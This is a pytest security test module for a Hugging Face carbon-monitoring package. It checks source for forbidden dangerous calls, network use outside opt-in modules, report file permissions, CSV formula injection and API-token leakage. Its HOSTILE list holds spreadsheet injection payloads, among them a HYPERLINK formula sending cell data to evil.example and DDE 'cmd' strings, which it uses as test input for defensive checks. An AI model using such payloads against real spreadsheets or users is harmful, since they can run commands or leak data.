"""Security: dangerous calls, network only when opted in, secrets, file modes, CSV injection.

``bandit -r src`` and ``pip-audit`` run in the ``security`` tox environment (see
docs/reliability.md); this module checks what a test can check on every run.
"""

from __future__ import annotations

import ast
import csv
import json
import os
import socket
import stat
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from train_hf import make_trainer

from hf_eco2ai import CarbonConfig
from hf_eco2ai import energy_monitor as monitor
from hf_eco2ai.carbon.location import resolve_intensity
from hf_eco2ai.carbon.providers import ELECTRICITYMAPS_TOKEN_ENV
from hf_eco2ai.energy_monitor import EnergyMonitor
from hf_eco2ai.outputs.emissions_csv import CSV_COLUMNS, csv_safe
from hf_eco2ai.sensors.base import DeviceInfo, HwType, Method
from tests.conftest import ConstantSensor
from tests.reliability.conftest import Telemetry, fast_config, instrumented, one_report

SRC = Path(__file__).resolve().parents[2] / "src" / "hf_eco2ai"

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint", "input"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill", "cloudpickle"}
FORBIDDEN_ATTRIBUTES = {
    ("os", "system"),
    ("os", "popen"),
    ("os", "execv"),
    ("os", "execve"),
    ("os", "execl"),
    ("os", "execvp"),
    ("yaml", "load"),
    ("yaml", "unsafe_load"),
    ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"),
}


def _sources() -> Iterator[tuple[Path, ast.AST]]:
    for path in sorted(SRC.rglob("*.py")):
        yield path, ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def test_no_eval_exec_pickle_or_shell_in_src() -> None:
    """Would catch: a new ``eval``/``exec``, a pickle/marshal import (untrusted data turned into
    code), ``os.system``/``os.popen``, ``yaml.load``, or ``shell=True`` anywhere in the package."""
    found = []
    for path, tree in _sources():
        rel = path.relative_to(SRC.parent)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                    found.append(f"{rel}:{node.lineno} {func.id}()")
                if (
                    isinstance(func, ast.Attribute)
                    and isinstance(func.value, ast.Name)
                    and (func.value.id, func.attr) in FORBIDDEN_ATTRIBUTES
                ):
                    found.append(f"{rel}:{node.lineno} {func.value.id}.{func.attr}()")
                for kw in node.keywords:
                    if kw.arg == "shell" and not (
                        isinstance(kw.value, ast.Constant) and kw.value.value is False
                    ):
                        found.append(f"{rel}:{node.lineno} shell=")
            elif isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names]
                if isinstance(node, ast.ImportFrom) and node.module:
                    names.append(node.module)
                for name in names:
                    if name.split(".")[0] in FORBIDDEN_MODULES:
                        found.append(f"{rel}:{node.lineno} import {name}")
    assert found == []


def test_network_code_only_where_opted_in() -> None:
    """Only the live providers and the cloud-metadata client open connections, both opt-in.
    Would catch: network access appearing in another module (e.g. geolocation at import)."""
    allowed = {
        "carbon/providers.py",  # live intensity: carbon_provider (opt-in)
        "carbon/location.py",  # cloud metadata: cloud_metadata (opt-in)
        "exporters/mlflow/client.py",  # the MLflow exporter, when the user configures it
    }
    connecting = {
        "urlopen",
        "build_opener",
        "create_connection",
        "HTTPConnection",
        "HTTPSConnection",
        "socket",
        "request",
        "get",
        "post",
    }
    hits = set()
    for path, tree in _sources():
        rel = path.relative_to(SRC).as_posix()
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                owner = node.func.value
                if (
                    isinstance(owner, ast.Name)
                    and owner.id in {"socket", "urllib", "request", "http", "requests", "httpx"}
                    and node.func.attr in connecting
                ) or node.func.attr in {"urlopen", "create_connection", "build_opener"}:
                    hits.add(rel)
    assert hits <= allowed, hits - allowed


def test_a_default_instrumented_run_opens_no_connection(
    telemetry: Telemetry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Real discovery and the default config (no live provider, no cloud metadata). Would
    catch: any outbound connection attempt made without the user's opt-in."""
    attempts: list[Any] = []
    real_connect = socket.socket.connect
    main = threading.main_thread().ident
    # threads left by earlier tests (e.g. an exporter still retrying) are not this run's
    older = {t.ident for t in threading.enumerate()} - {main}

    def connect(self: socket.socket, address: Any) -> Any:
        if self.family in (socket.AF_INET, socket.AF_INET6):
            if threading.get_ident() not in older:
                attempts.append((threading.current_thread().name, address))
            raise OSError("network disabled by the test")
        return real_connect(self, address)

    def create_connection(address: Any, *args: Any, **kwargs: Any) -> Any:
        if threading.get_ident() not in older:
            attempts.append((threading.current_thread().name, address))
        raise OSError("network disabled by the test")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "create_connection", create_connection)
    with instrumented(telemetry, CarbonConfig(sample_interval=0.05, output_dir="runs")):
        make_trainer("n", train_size=16, eval_size=8, epochs=1).train()
    assert attempts == []
    one_report("runs")


# ---------------------------------------------------------------------------------- files
@pytest.mark.parametrize("umask", [0o022, 0o077, 0o000])
def test_report_files_follow_the_umask_and_are_never_world_writable(
    fake_devices: None, telemetry: Telemetry, umask: int
) -> None:
    """Would catch: a report file or directory created with a fixed permissive mode, and, with
    a permissive umask (0), files others can overwrite (a shared run directory where another
    user edits emissions.csv or report.json)."""
    old = os.umask(umask)
    try:
        with instrumented(telemetry, fast_config("runs")):
            make_trainer("u", train_size=16, eval_size=8, epochs=1).train()
    finally:
        os.umask(old)
    paths = [p for p in Path("runs").rglob("*")]
    assert {p.name for p in paths if p.is_file()} >= {"report.json", "emissions.csv"}
    for path in [Path("runs"), *paths]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert not mode & stat.S_IWOTH, f"{path} is world-writable ({mode:o})"
        default = 0o777 if path.is_dir() else 0o666
        assert mode & ~(default & ~umask) == 0, f"{path}: {mode:o} ignores umask {umask:o}"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_csv_formula_injection_is_neutralised_end_to_end(
    payload: str, telemetry: Telemetry
) -> None:
    """A hostile project name, description and device names go through a whole run into
    emissions.csv. Would catch: a text cell that a spreadsheet would evaluate as a formula."""
    evil_cpu = DeviceInfo("cpu", HwType.CPU, payload, "Acme", Method.TDP_MODEL)
    evil_gpu = DeviceInfo("gpu0", HwType.GPU, payload, "NVIDIA", Method.NVML_ENERGY)

    def factory(config: CarbonConfig, local_rank: int) -> EnergyMonitor:
        from hf_eco2ai.carbon.intensity import CarbonIntensity, StaticIntensity

        sensor = ConstantSensor([(evil_gpu, 100.0), (evil_cpu, 20.0)])
        return EnergyMonitor(
            config, sensors=[sensor], intensity=StaticIntensity(CarbonIntensity(1.0, "XX", "x"))
        )

    monitor.set_monitor_factory(factory)
    try:
        config = fast_config("runs", project_name=payload, experiment_description=payload)
        with instrumented(telemetry, config):
            make_trainer("c", train_size=16, eval_size=8, epochs=1).train()
    finally:
        monitor.set_monitor_factory(None)
    with open(Path("runs") / "emissions.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 2, rows  # a carriage return in a cell must not start a new row
    row = rows[1]
    stored = {"project_name": payload.strip(), "experiment_description": payload}
    for column in ("project_name", "experiment_description", "CPU_name", "GPU_name"):
        cell = row[CSV_COLUMNS.index(column)]
        assert cell == csv_safe(stored.get(column, payload)), (column, cell)
        assert cell.startswith("'"), (column, cell)
    for cell in row:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    report = one_report("runs")
    assert report["run"]["experiment_description"] == payload  # JSON keeps the text as given


# ---------------------------------------------------------------------------------- secrets
TOKEN = "tok-s3cr3t-Zq9vXw2-do-not-leak"


class EchoServer:
    """An Electricity Maps stand-in that echoes the token back in headers and body."""

    def __init__(self, status: int) -> None:
        outer = self
        self.requests = 0

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                outer.requests += 1
                token = self.headers.get("auth-token", "")
                body = {"zone": "DE", "carbonIntensity": 300, "echo": token, "error": token}
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("X-Echo", token)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.mark.parametrize("status", [200, 401, 500])
def test_api_token_never_in_spans_metrics_logs_or_reports(
    status: int,
    telemetry: Telemetry,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The live provider is on, the server echoes the token back, and (401/500) fails.
    Would catch: the token in a span or metric attribute, a log line (message, arguments or
    traceback), the run report or CSV, or the program's output."""
    import logging

    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv(ELECTRICITYMAPS_TOKEN_ENV, TOKEN)
    server = EchoServer(status)

    def factory(config: CarbonConfig, local_rank: int) -> EnergyMonitor:
        resolution = resolve_intensity(config, provider_base_url=server.url, background=False)
        sensor = ConstantSensor(
            [(DeviceInfo("cpu", HwType.CPU, "CPU", "A", Method.TDP_MODEL), 50.0)]
        )
        return EnergyMonitor(config, sensors=[sensor], intensity=resolution.provider)

    monitor.set_monitor_factory(factory)
    try:
        config = fast_config("runs", country="DE", carbon_provider="electricitymaps")
        with instrumented(telemetry, config):
            make_trainer("s", train_size=16, eval_size=8, epochs=1).train()
            telemetry.metrics.collect()
            metrics = telemetry.metrics.get_metrics_data()
    finally:
        monitor.set_monitor_factory(None)
        server.close()
    assert server.requests >= 1, "the provider never called the server"
    source = one_report("runs")["carbon"]["source"]
    assert source == ("electricitymaps" if status == 200 else "table:owid@2023") or status != 200
    exposed = {
        "spans": "\n".join(s.to_json() for s in telemetry.finished()),
        "metrics": metrics.to_json() if metrics is not None else "",
        "logs": "\n".join(
            f"{r.getMessage()} {r.args!r} {r.exc_text or ''}" for r in caplog.records
        ),
        "output": "".join(capfd.readouterr()),
    }
    for path in Path("runs").rglob("*"):
        if path.is_file():
            exposed[str(path)] = path.read_bytes().decode("latin-1")
    leaks = [where for where, text in exposed.items() if TOKEN in text]
    assert leaks == []
    assert exposed["spans"] and exposed["metrics"]
